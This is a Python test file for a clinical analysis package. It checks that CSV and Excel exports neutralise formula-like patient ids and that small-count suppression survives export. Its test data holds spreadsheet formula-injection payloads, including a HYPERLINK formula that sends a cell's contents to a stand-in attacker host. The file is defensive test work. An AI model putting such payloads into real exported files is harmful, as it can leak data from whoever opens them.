"""Safe exports (analysis.privacy.to_csv_bytes / to_excel_bytes): a table with formula-like patient ids opens
safely, read back as a spreadsheet would (csv module, openpyxl); suppressed tables stay suppressed in the file.
"""

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis import metrics, privacy
from analysis.rates import add_rates, suppress_rates
from analysis.survival import kaplan_meier

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tP001",
    "\rP002",
    "=1+1",
    "P00003",
]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: privacy.to_csv_bytes writes CRLF rows, so Python's csv module quotes any field holding a bare CR or LF: a
#: carriage return inside an id cannot start a new row whose text would be a fresh, un-neutralised cell.


def hostile_table(ids=HOSTILE_IDS) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "patient_id": list(ids),
            "score": [12, -3, 0, 7, 27, 5, 4, 9][: len(ids)],
            "=note": ["ok", "-", "@x", "fine", "", "+", "=A1", "plain"][: len(ids)],
        }
    )


NO_CR = [v for v in HOSTILE_IDS if "\r" not in v]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads accents
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[c for c in row] for row in sheet.iter_rows()]


def test_formula_like_ids_come_back_from_the_csv_quoted_and_inert():
    rows = csv_rows(privacy.to_csv_bytes(hostile_table(NO_CR)))
    header, body = rows[0], rows[1:]
    assert header == ["patient_id", "score", "'=note"]
    assert [r[0] for r in body] == ["'" + v for v in NO_CR[:-1]] + ["P00003"]
    assert [r[2] for r in body] == ["ok", "'-", "'@x", "fine", "", "'+", "'=A1"]
    text_cells = [r[0] for r in rows] + [r[2] for r in rows]
    assert not [cell for cell in text_cells if cell.startswith(PREFIXES)]


def test_an_id_starting_with_a_carriage_return_comes_back_from_the_csv_as_one_quoted_cell():
    rows = csv_rows(privacy.to_csv_bytes(hostile_table()))
    assert len(rows) == 1 + len(HOSTILE_IDS)
    assert rows[6][0] == "'\rP002"


def test_a_carriage_return_inside_an_id_cannot_start_a_row_with_a_formula():
    rows = csv_rows(privacy.to_csv_bytes(pd.DataFrame({"patient_id": ["P1\r=1+1", "P2"], "score": [3, 4]})))
    assert rows[1:] == [["P1\r=1+1", "3"], ["P2", "4"]]
    assert not [cell for r in rows for cell in r if cell.startswith(PREFIXES)]


def test_negative_numbers_stay_numbers_in_the_csv():
    body = csv_rows(privacy.to_csv_bytes(hostile_table(NO_CR)))[1:]
    assert [int(r[1]) for r in body] == [12, -3, 0, 7, 27, 5, 4]


def test_formula_like_ids_open_from_excel_as_text_not_formulas():
    cells = xlsx_cells(privacy.to_excel_bytes(hostile_table(), sheet="patients"))
    assert all(c.data_type != "f" for row in cells for c in row)
    assert [c.value for c in cells[0]] == ["patient_id", "score", "'=note"]
    ids = [row[0].value for row in cells[1:]]
    # XML turns a carriage return into a line feed: still one text cell behind its quote
    assert ids == ["'" + v.replace("\r", "\n") for v in HOSTILE_IDS[:-1]] + ["P00003"]
    assert all(row[0].data_type == "s" for row in cells[1:])
    assert [row[1].value for row in cells[1:]] == [12, -3, 0, 7, 27, 5, 4, 9]  # numbers stay numbers


def test_the_sheet_name_is_cut_to_excels_31_characters():
    wb = openpyxl.load_workbook(io.BytesIO(privacy.to_excel_bytes(hostile_table(), sheet="x" * 40)))
    assert wb.sheetnames == ["x" * 31]


def test_exporting_does_not_change_the_table():
    t = hostile_table()
    before = t.copy()
    privacy.to_csv_bytes(t)
    privacy.to_excel_bytes(t)
    pd.testing.assert_frame_equal(t, before)


@settings(max_examples=60, deadline=None)
# (text as the import gives it: decoded strictly, so never a lone surrogate, which UTF-8 cannot encode)
@given(
    st.lists(
        st.text(alphabet=st.characters(blacklist_characters="\r", blacklist_categories=("Cs",)), max_size=12),
        min_size=1,
        max_size=6,
    )
)
def test_no_csv_cell_can_start_a_formula_and_unquoting_gives_the_text_back(values):
    rows = csv_rows(privacy.to_csv_bytes(pd.DataFrame({"patient_id": values})))[1:]
    back = [r[0] if r else "" for r in rows]
    for original, cell in zip(values, back):
        assert not cell.startswith(PREFIXES)
        if original.startswith(PREFIXES):
            assert cell[0] == "'"


@settings(max_examples=20, deadline=None)
@given(
    st.lists(
        st.sampled_from(PREFIXES).flatmap(lambda p: st.text(alphabet="AB1(=)+", max_size=6).map(lambda s: p + s)),
        min_size=1,
        max_size=4,
    )
)
def test_no_excel_cell_made_from_formula_like_text_is_a_formula(values):
    cells = xlsx_cells(privacy.to_excel_bytes(pd.DataFrame({"patient_id": values})))[1:]
    assert [row[0].value for row in cells] == ["'" + v.replace("\r", "\n") for v in values]
    assert all(row[0].data_type == "s" for row in cells)


# --- suppressed tables stay suppressed -------------------------------------------------------------------------------


def small_rates() -> pd.DataFrame:
    """A rates table (metrics.RATES_COLUMNS) with one large and one small group, rates from add_rates."""
    funnel = pd.DataFrame(
        {
            "instrument": ["PHQ9", "PHQ9"],
            "dimension": ["site", "site"],
            "group": ["=Main", "Annex"],
            "patients": [60, 9],
            "with_baseline": [58, 9],
            "with_response_assessment": [40, 7],
            "evaluable": [40, 7],
            "responders": [22, 4],
            "remitters": [9, 2],
            "with_follow_up": [20, 4],
        }
    )
    return add_rates(funnel)[list(metrics.RATES_COLUMNS)]


def test_a_suppressed_rates_table_exports_under_11_and_no_rate_of_a_small_group():
    shown = suppress_rates(small_rates())
    rows = csv_rows(privacy.to_csv_bytes(shown))
    header = rows[0]
    annex = dict(zip(header, rows[2]))
    assert annex["patients"] == "<11" and annex["evaluable"] == "<11" and annex["responders"] == "<11"
    for c in (
        "response_rate",
        "response_lower",
        "response_upper",
        "remission_rate",
        "remission_lower",
        "remission_upper",
    ):
        assert annex[c] == ""
    main = dict(zip(header, rows[1]))
    assert main["group"] == "'=Main" and main["responders"] == "22"
    assert float(main["response_rate"]) == pytest.approx(22 / 40)
    assert main["remitters"] == "<11" and main["remission_rate"] == ""  # 9 remitters: the rate would reveal them


def test_a_suppressed_table_stays_suppressed_in_excel():
    cells = xlsx_cells(privacy.to_excel_bytes(suppress_rates(small_rates())))
    header = [c.value for c in cells[0]]
    annex = {h: c.value for h, c in zip(header, cells[2])}
    assert annex["patients"] == "<11" and annex["response_rate"] is None and annex["remission_upper"] is None
    assert not any(
        isinstance(c.value, (int, float)) and 1 <= c.value < 11
        for row in cells[1:]
        for h, c in zip(header, row)
        if h
        in (
            "patients",
            "with_baseline",
            "with_response_assessment",
            "evaluable",
            "responders",
            "remitters",
            "with_follow_up",
        )
    )


def test_a_durability_group_table_exports_without_the_curve_of_a_small_group():
    from analysis.durability import _group_table

    km = kaplan_meier(
        [5, 10, 20, 30, 40] * 5 + [7, 14, 21], [1, 0, 1, 1, 0] * 5 + [1, 1, 0], ["large"] * 25 + ["small"] * 3
    )  # large: 25 episodes, 15 events
    groups = _group_table(km, (28,))
    shown = privacy.suppress_table(
        groups, ["n", "events"], [c for c in groups.columns if c not in ("group", "n", "events")]
    )
    rows = {
        r[0]: dict(zip(csv_rows(privacy.to_csv_bytes(shown))[0], r)) for r in csv_rows(privacy.to_csv_bytes(shown))[1:]
    }
    assert rows["small"]["n"] == "<11" and rows["small"]["median"] == "" and rows["small"]["s28"] == ""
    assert rows["large"]["n"] == "25" and rows["large"]["events"] == "15"
    assert float(rows["large"]["s28"]) == pytest.approx(0.8 * (1 - 5 / 15))  # 5 of 25 lost at day 5, 5 of 15 at day 20
